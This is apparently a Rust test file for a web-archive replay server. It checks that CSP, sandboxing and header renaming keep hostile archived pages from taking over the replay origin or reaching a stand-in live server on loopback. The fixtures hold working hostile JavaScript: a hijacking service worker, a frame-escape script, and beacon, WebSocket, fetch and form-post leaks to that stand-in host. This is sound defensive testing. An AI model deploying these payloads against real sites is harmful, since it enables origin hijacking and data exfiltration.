//! The replay origin's fence. Every archived page runs on the one replay origin, so a hostile
//! one attacks all the others: it registers a service worker that answers for every capture,
//! frames its own raw (`id_`) copy to run outside the policy, posts a form, sends a beacon or
//! opens a WebSocket to the live web, or has its `Refresh:` header take the reader there.
//!
//! The stand-in live server listens on 127.0.0.1, which Chromium's flags leave reachable (the
//! dead proxy is bypassed for loopback, the host rules exclude 127.0.0.1): only the fence
//! keeps each page from it. Hostile scripts build their URLs at run time, as attackers do, so
//! no rewriting of markup can be what stops them.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use crate::archive::archive_ok;
use crate::fixture::{Handler, HttpsFixture, Request, Step, response, response_with};
use crate::replay::ReplayServer;
use crate::support::*;

const SITE: &str = "https://hostile.example";

/// The pages of the hostile site, with `LIVE` standing for the live server's origin.
fn hostile_pages() -> Vec<(&'static str, Vec<u8>)> {
    let html = |body: &str| response("200 OK", "text/html", body.as_bytes());
    vec![
        ("/sw/page.html", html(SERVICE_WORKER_PAGE)),
        (
            "/sw/sw.js",
            response_with(
                "200 OK",
                &[
                    ("Content-Type", "application/javascript"),
                    ("Service-Worker-Allowed", "/"),
                ],
                SERVICE_WORKER.as_bytes(),
            ),
        ),
        ("/unrelated.html", html(UNRELATED)),
        ("/frame.html", html(FRAMES_ITS_RAW_COPY)),
        ("/leaks.html", html(LEAKS)),
        ("/form.html", html(POSTS_A_FORM)),
        (
            "/refresh.html",
            response_with(
                "200 OK",
                &[
                    ("Content-Type", "text/html"),
                    ("Refresh", "0; LIVE/refresh"),
                    ("Set-Cookie", "tracker=1; Path=/"),
                    ("Clear-Site-Data", "\"storage\""),
                    ("Link", "<LIVE/preload>; rel=preload; as=image"),
                ],
                b"<!DOCTYPE html><title>refresh</title><p>refreshing</p>",
            ),
        ),
    ]
}

/// Registers the archived `sw.js` (its response allows scope `/`) for the whole origin.
const SERVICE_WORKER_PAGE: &str = r"<!DOCTYPE html><title>hostile</title><p>hostile</p>
<script>
var script = location.pathname.replace(/page\.html$/, 'sw.js');
navigator.serviceWorker.register(script, {scope: '/'}).then(
  function () { document.title = 'registered'; },
  function (e) { document.title = 'refused: ' + e; });
</script>";

/// Answers every request of the origin with the attacker's page, and reports it live.
const SERVICE_WORKER: &str = r"self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener('fetch', function (e) {
  fetch('LIVE/sw', {mode: 'no-cors'}).catch(function () {});
  e.respondWith(new Response('<h1>taken over</h1>', {headers: {'Content-Type': 'text/html'}}));
});";

const UNRELATED: &str = "<!DOCTYPE html><title>unrelated</title><p>its own content</p>";

/// Frames its own raw copy; in there, it reaches for its parent and the live web.
const FRAMES_ITS_RAW_COPY: &str = r"<!DOCTYPE html><title>parent</title><p>parent</p>
<script>
if (/id_\//.test(location.pathname)) {
  try { parent.document.title = 'escaped'; } catch (e) {}
  try { top.document.title = 'escaped'; } catch (e) {}
  try { fetch('LIVE/raw-fetch', {mode: 'no-cors'}).catch(function () {}); } catch (e) {}
  try { navigator.sendBeacon('LIVE/raw-beacon', 'x'); } catch (e) {}
  try { new WebSocket('LIVE/raw-ws'.replace('http', 'ws')); } catch (e) {}
} else {
  var frame = document.createElement('iframe');
  frame.src = location.pathname.replace(/^(\/[^\/]+\/\d+)\//, '$1id_/');
  document.body.appendChild(frame);
}
</script>";

/// Beacon, WebSocket, fetch and a `<base>` to the live web.
const LEAKS: &str = r"<!DOCTYPE html><title>leaks</title><p>leaks</p>
<script>
var live = 'LIVE';
try { navigator.sendBeacon(live + '/beacon', 'x'); } catch (e) {}
try { new WebSocket(live.replace('http', 'ws') + '/ws'); } catch (e) {}
try { fetch(live + '/fetch', {mode: 'no-cors'}).catch(function () {}); } catch (e) {}
var base = document.createElement('base');
base.href = live + '/based/';
document.head.appendChild(base);
</script>";

/// A form, built at run time, posted to the live web.
const POSTS_A_FORM: &str = r"<!DOCTYPE html><title>form</title><p>form</p>
<script>
var form = document.createElement('form');
form.method = 'post';
form.action = 'LIVE/form';
document.body.appendChild(form);
setTimeout(function () { form.submit(); }, 200);
</script>";

/// The stand-in live web on 127.0.0.1: counts connections, and the request lines of those
/// that sent one.
struct LiveServer {
    port: u16,
    connections: Arc<AtomicUsize>,
    requests: Arc<Mutex<Vec<String>>>,
}

impl LiveServer {
    fn start() -> LiveServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let (counted, heard) = (connections.clone(), requests.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::SeqCst);
                let heard = heard.clone();
                std::thread::spawn(move || answer(conn, &heard));
            }
        });
        LiveServer {
            port,
            connections,
            requests,
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    /// Connections, and what was asked on them.
    fn reached(&self) -> (usize, Vec<String>) {
        let requests = self.requests.lock().unwrap().clone();
        (self.connections.load(Ordering::SeqCst), requests)
    }
}

fn answer(conn: TcpStream, heard: &Mutex<Vec<String>>) {
    let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
    let mut line = String::new();
    if BufReader::new(&conn).read_line(&mut line).unwrap_or(0) > 0 {
        heard.lock().unwrap().push(line.trim().to_string());
        let mut conn = conn;
        let _ = conn
            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nlive");
    }
}

/// The stand-in live web, the hostile site archived (the live server untouched by the crawl)
/// and replayed.
struct Hostile {
    live: LiveServer,
    replay: ReplayServer,
    _work: tempfile::TempDir,
}

impl Hostile {
    fn archive() -> Hostile {
        let live = LiveServer::start();
        let origin = live.url("");
        let pages: Vec<(&str, Vec<u8>)> = hostile_pages()
            .into_iter()
            .map(|(path, bytes)| (path, replace_bytes(&bytes, "LIVE", &origin)))
            .collect();
        let targets: Vec<String> = pages.iter().map(|(p, _)| format!("{SITE}{p}")).collect();
        let handler: Handler = Arc::new(move |req: &Request| {
            let found = pages.iter().find(|(p, _)| *p == req.target);
            vec![Step::Send(found.map_or_else(
                || response("404 Not Found", "text/plain", b""),
                |(_, bytes)| bytes.clone(),
            ))]
        });
        let fixture = HttpsFixture::start(&["hostile.example"], handler).unwrap();
        let work = tempfile::tempdir().unwrap();
        let archives = work.path().join("archives");
        let targets: Vec<&str> = targets.iter().map(String::as_str).collect();
        archive_ok(
            &archives,
            &fixture,
            &["--no-progress", "--depth", "0"],
            &targets,
        );
        assert_eq!(
            live.reached().0,
            0,
            "the crawl itself reached the live server"
        );
        let replay = ReplayServer::start(&archives);
        Hostile {
            live,
            replay,
            _work: work,
        }
    }

    fn capture(&self, path: &str) -> String {
        format!("{}/default/2030/{SITE}{path}", self.replay.origin)
    }

    /// GET without following redirects, with extra request headers.
    fn fetch(&self, path: &str, headers: &[(&str, &str)]) -> (u16, reqwest::header::HeaderMap) {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        runtime.block_on(async {
            let client = http_client()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap();
            let mut request = client.get(format!("{}{path}", self.replay.origin));
            for (name, value) in headers {
                request = request.header(*name, *value);
            }
            let response = request.send().await.unwrap();
            (response.status().as_u16(), response.headers().clone())
        })
    }
}

impl Hostile {
    /// GET a capture, following the redirect to its exact timestamp.
    fn fetch_capture(&self, path: &str) -> (u16, reqwest::header::HeaderMap) {
        let (status, headers) = self.fetch(path, &[]);
        if status != 302 {
            return (status, headers);
        }
        self.fetch(headers["location"].to_str().unwrap(), &[])
    }
}

fn replace_bytes(bytes: &[u8], from: &str, to: &str) -> Vec<u8> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let body_at = text.find("\r\n\r\n").unwrap() + 4;
    let (head, body) = text.split_at(body_at);
    let body = body.replace(from, to);
    let head = regex::Regex::new(r"Content-Length: \d+")
        .unwrap()
        .replace(head, format!("Content-Length: {}", body.len()).as_str())
        .replace(from, to);
    [head.into_bytes(), body.into_bytes()].concat()
}

fn artifacts() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-artifacts");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Opens `url`, then each of `visits`, in one Chromium profile; the values of `evals` in the
/// last page.
fn chromium(url: &str, visits: &[String], evals: &[&str], screenshot: &str) -> Vec<String> {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/browser_check.py");
    let mut command = tool("python3");
    command
        .arg(script)
        .arg(url)
        .arg(artifacts().join(screenshot));
    for visit in visits {
        command.arg("--visit").arg(visit);
    }
    for eval in evals {
        command.arg("--eval").arg(eval);
    }
    let report: serde_json::Value = serde_json::from_slice(&run_ok(&mut command).stdout).unwrap();
    eprintln!("{screenshot}: requests {}", report["requests"]);
    report["evals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| match v {
            serde_json::Value::String(s) => s.clone(),
            other => other.to_string(),
        })
        .collect()
}

fn browser_available() -> bool {
    requires(&["chromium", "python3", "python:websockets"])
}

#[test]
fn no_archived_script_becomes_a_service_worker() {
    if !browser_available() {
        return;
    }
    let site = Hostile::archive();
    let values = chromium(
        &site.capture("/sw/page.html"),
        &[site.capture("/unrelated.html")],
        &[
            "document.body.innerText",
            "navigator.serviceWorker.getRegistrations().then(r => r.length)",
        ],
        "hostile-service-worker.png",
    );
    assert_eq!(values[0].trim(), "its own content", "{values:?}");
    assert_eq!(values[1], "0", "service workers registered: {values:?}");
    assert_eq!(site.live.reached(), (0, vec![]));

    // The request a browser makes for a service worker script is refused outright, and the
    // archived field that would widen its scope does not reach the browser.
    let sw = "/default/2030/https://hostile.example/sw/sw.js";
    assert_eq!(site.fetch(sw, &[("Service-Worker", "script")]).0, 403);
    let (status, headers) = site.fetch_capture(sw);
    assert_eq!(status, 200);
    assert!(
        !headers.contains_key("service-worker-allowed"),
        "{headers:?}"
    );
    assert_eq!(headers["x-archive-orig-service-worker-allowed"], "/");
    let csp = headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("worker-src 'none'"), "{csp}");
}

#[test]
fn a_page_framing_its_raw_copy_cannot_escape() {
    if !browser_available() {
        return;
    }
    let site = Hostile::archive();
    let values = chromium(
        &site.capture("/frame.html"),
        &[],
        &[
            "document.title",
            "document.querySelectorAll('iframe').length",
            "location.pathname",
        ],
        "hostile-raw-frame.png",
    );
    assert_eq!(values[0], "parent", "the raw frame reached its parent");
    assert_eq!(values[1], "1", "{values:?}");
    assert!(values[2].ends_with("/frame.html"), "{values:?}");
    assert_eq!(site.live.reached(), (0, vec![]));
}

#[test]
fn a_form_posts_nothing_to_the_live_web() {
    if !browser_available() {
        return;
    }
    let site = Hostile::archive();
    let values = chromium(
        &site.capture("/form.html"),
        &[],
        &["location.pathname"],
        "hostile-form.png",
    );
    // The client layer points the action a script set into the archive, so the post goes
    // there (and is refused: replay takes no posts) and the page stays in the archive.
    // Without the layer, `form-action` stops the post before a byte is sent, but Chromium may
    // still have opened a connection to warm it up (its preconnect on navigation start runs
    // before the policy check): only rewriting the action keeps that from happening.
    assert!(
        values[0].starts_with("/default/"),
        "left the archive: {values:?}"
    );
    let (_, requests) = site.live.reached();
    assert!(requests.is_empty(), "{requests:?}");
}

#[test]
fn beacons_websockets_and_base_reach_no_live_server() {
    if !browser_available() {
        return;
    }
    let site = Hostile::archive();
    let values = chromium(
        &site.capture("/leaks.html"),
        &[],
        &["location.pathname", "document.body.innerText"],
        "hostile-leaks.png",
    );
    assert!(values[0].ends_with("/leaks.html"), "navigated: {values:?}");
    assert_eq!(site.live.reached(), (0, vec![]));
}

#[test]
fn an_archived_refresh_header_stays_in_the_archive() {
    if !browser_available() {
        return;
    }
    let site = Hostile::archive();
    let values = chromium(
        &site.capture("/refresh.html"),
        &[],
        &["location.pathname"],
        "hostile-refresh.png",
    );
    assert_eq!(site.live.reached(), (0, vec![]));
    let live = site.live.url("/refresh");
    assert_eq!(
        values[0],
        format!("/default/{}/{live}", stamp_of(&values[0])),
        "{values:?}"
    );
}

/// The timestamp in a replay path `/COLL/STAMP/URL`.
fn stamp_of(path: &str) -> &str {
    path.split('/').nth(2).unwrap_or_default()
}

#[test]
fn every_response_of_the_replay_origin_carries_the_fence() {
    let site = Hostile::archive();
    let raw = "/default/2030id_/https://hostile.example/frame.html";
    let (status, headers) = site.fetch(raw, &[]);
    assert_eq!(status, 302);
    let raw = headers["location"].to_str().unwrap().to_string();
    let replayed = raw.replace("id_/", "/");
    let paths = [
        ("/", 200),
        ("/default", 302),
        ("/default/", 200),
        ("/default/?q=x", 200),
        ("/nothing/", 404),
        (
            "/default/timemap/link/https://hostile.example/frame.html",
            200,
        ),
        ("/default/2030/https://hostile.example/not-archived", 404),
        ("/default/not-a-path", 400),
        ("/default/2030/https://hostile.example/frame.html", 302),
        ("//", 404),
        (replayed.as_str(), 200),
        (raw.as_str(), 200),
    ];
    for (path, expected) in paths {
        let (status, headers) = site.fetch(path, &[]);
        assert_eq!(status, expected, "{path}");
        let csp = headers
            .get("content-security-policy")
            .unwrap_or_else(|| panic!("{path} has no policy"))
            .to_str()
            .unwrap();
        for directive in [
            "worker-src 'none'",
            "form-action 'self'",
            "base-uri 'self'",
            "frame-ancestors 'self'",
        ] {
            assert!(csp.contains(directive), "{path}: {csp}");
        }
        let sandboxed = csp.contains("; sandbox");
        assert_eq!(sandboxed, path != replayed, "{path}: {csp}");
        assert!(!csp.contains("allow-scripts"), "{path}: {csp}");
        assert!(!csp.contains("allow-same-origin"), "{path}: {csp}");
    }

    // Archived fields that would act on the browser are kept for the reader, renamed.
    let (_, headers) = site.fetch_capture("/default/2030id_/https://hostile.example/refresh.html");
    for name in ["set-cookie", "clear-site-data", "link"] {
        assert!(
            headers.contains_key(format!("x-archive-orig-{name}").as_str()),
            "{name}: {headers:?}"
        );
    }
    assert!(!headers.contains_key("set-cookie") && !headers.contains_key("clear-site-data"));
    let refresh = headers["refresh"].to_str().unwrap();
    assert!(
        refresh.starts_with("0; /default/") && refresh.contains("id_/http://127.0.0.1:"),
        "{refresh}"
    );
}

/// Pages served as archived, not rewritten (mistyped, untyped, or too large), can still be
/// opened as documents by a browser: they are sandboxed, so no script and no refresh of theirs
/// runs, they carry one Content-Type (the one they were judged by) and may not be sniffed.
#[test]
fn pages_served_as_archived_are_sandboxed() {
    let refresh: &[u8] = b"<p>hi<meta http-equiv=refresh content=\"0;url=http://127.0.0.1:9/\">";
    let pages: Vec<(&str, Vec<u8>)> = vec![
        (
            "/mistyped",
            response_with(
                "200 OK",
                &[("Content-Type", "image/png"), ("Content-Type", "text/html")],
                refresh,
            ),
        ),
        ("/untyped", response_with("200 OK", &[], refresh)),
    ];
    let handler: Handler = Arc::new(move |req: &Request| {
        let page = pages.iter().find(|(path, _)| *path == req.target);
        vec![Step::Send(page.map_or_else(
            || response("404 Not Found", "text/plain", b""),
            |(_, bytes)| bytes.clone(),
        ))]
    });
    let fixture = HttpsFixture::start(&["typed.example.com"], handler).unwrap();
    let archives = tempfile::tempdir().unwrap();
    archive_ok(
        archives.path(),
        &fixture,
        &["--no-progress"],
        &[
            "https://typed.example.com/mistyped",
            "https://typed.example.com/untyped",
        ],
    );
    let server = ReplayServer::start(archives.path());
    for page in ["mistyped", "untyped"] {
        let (status, headers, _) =
            server.get(&format!("/default/2/https://typed.example.com/{page}"));
        assert_eq!(status, 200, "{page}");
        let policy = headers["content-security-policy"].to_str().unwrap();
        assert!(policy.contains("sandbox"), "{page}: {policy}");
        assert!(!policy.contains("allow-scripts"), "{page}: {policy}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{page}");
        assert!(
            headers.get_all("content-type").iter().count() <= 1,
            "{page}"
        );
    }
    let (_, headers, _) = server.get("/default/2/https://typed.example.com/mistyped");
    assert_eq!(headers["content-type"], "image/png");
}
